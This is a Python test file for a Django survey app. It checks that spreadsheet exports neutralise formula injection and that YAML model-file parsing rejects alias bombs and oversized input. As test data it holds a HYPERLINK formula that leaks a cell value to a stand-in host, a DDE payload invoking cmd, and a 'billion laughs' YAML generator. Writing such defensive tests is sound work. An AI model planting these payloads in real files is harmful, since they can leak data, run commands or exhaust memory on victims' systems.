"""Issue 17, part 2: exports write text as text, parsers are bounded, bad input never gives a
server error, API tokens expire."""

import io

import openpyxl
import pytest
from django.urls import reverse

from scan import services
from scan.services import AnswerInput
from tests import factories
from tests.model_document import document

pytestmark = pytest.mark.django_db

# Every prefix a spreadsheet may run as a formula, with the text that follows it.
FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\r=1+1",
    "#N/A",
]


def _answered(scan_round, kind: str, n: int) -> None:
    codes = ["KV1.1", "KV1.2", "KP1.1", "KP1.2", "KP2.1"]
    for _i in range(n):
        respondent = factories.respondent(scan_round, kind=kind)
        services.answers_save(respondent=respondent, answers=[AnswerInput(c, 3) for c in codes])
        services.respondent_submit(respondent)


# --- 1. Excel never runs user text as a formula -------------------------------------------


def test_results_export_writes_user_text_as_text(client, people, org_a):
    doc = document()
    cells = [cell for domain in doc["domains"] for cell in domain["cells"]]
    for cell, text in zip(cells, FORMULA_TEXTS, strict=False):
        cell["name"]["nl"] = text
    scan_round = factories.scan_round(org_a, version=factories.model_version(doc))
    group = scan_round.groups.get(kind="staff")
    group.name = FORMULA_TEXTS[-1]
    group.save()
    _answered(scan_round, "staff", 5)
    client.force_login(people["director_a"])
    response = client.get(reverse("honeycomb:excel", kwargs={"org": "alfa", "pk": scan_round.pk}))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type != "e", (sheet.title, cell.coordinate, cell.value)
                if cell.value in FORMULA_TEXTS:
                    found.add(cell.value)
                    # text cells with Excel's hidden quote prefix stay text when edited
                    assert cell.data_type == "s"
                    assert cell.quotePrefix == (not cell.value.startswith("#"))
    # every text came back intact, not prefixed or cut
    assert found == set(FORMULA_TEXTS[: len(cells)]) | {FORMULA_TEXTS[-1]}


def test_append_row_keeps_numbers_and_drops_unstorable_characters():
    from scan.spreadsheet import append_row

    book = openpyxl.Workbook()
    append_row(book.active, ["=1+1", 3.5, None, "a\x01b", "gewoon"])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [c.value for c in row] == ["=1+1", 3.5, None, "ab", "gewoon"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]


# --- 2. YAML alias bombs and oversized model files are refused ----------------------------


def _alias_bomb() -> str:
    """The classic "billion laughs": nine levels of nine aliases each, under 400 bytes that a
    plain safe_load expands to 9**9 (387 million) strings."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    names = "abcdefghi"
    for previous, name in zip(names, names[1:], strict=False):
        lines.append(f"{name}: &{name} [{','.join(['*' + previous] * 9)}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_before_it_expands():
    from django.utils import translation

    from scan.modelfile import ModelFileError, parse_model_file

    bomb = _alias_bomb()
    assert len(bomb) < 600
    with translation.override("en"), pytest.raises(ModelFileError) as refused:
        parse_model_file(bomb)
    assert refused.value.errors == [
        "line 2: the file uses a YAML alias (*a). A model file may not use anchors and "
        "aliases: write the content out in full."
    ]


def test_deep_nesting_and_large_files_are_refused():
    from scan.modelfile import MAX_MODEL_FILE_BYTES, ModelFileError, parse_model_file

    with pytest.raises(ModelFileError, match="niveaus diep"):
        parse_model_file("a: " + "[" * 5000 + "]" * 5000)
    with pytest.raises(ModelFileError, match="groter dan 1 MB"):
        parse_model_file("a: " + "x" * MAX_MODEL_FILE_BYTES)


def test_model_import_of_a_bomb_imports_nothing_and_a_normal_file_still_imports(client, people):
    import yaml
    from django.core.files.uploadedfile import SimpleUploadedFile

    from scan.models import MaturityModel

    client.force_login(people["consultant_a"])
    url = reverse("klantraat_model_import")
    bomb = SimpleUploadedFile("model.yaml", _alias_bomb().encode())
    response = client.post(url, {"file": bomb})
    assert response.status_code == 400
    assert "YAML-alias (*a)" in response.content.decode()
    too_large = SimpleUploadedFile("model.yaml", b"#" * (1024 * 1024 + 1))
    response = client.post(url, {"file": too_large})
    assert response.status_code == 400
    assert "groter dan 1 MB" in response.content.decode()
    assert not MaturityModel.objects.exists()
    normal = SimpleUploadedFile("model.yaml", yaml.safe_dump(document()).encode())
    assert client.post(url, {"file": normal}).status_code == 302
    assert MaturityModel.objects.filter(code="testmodel").exists()
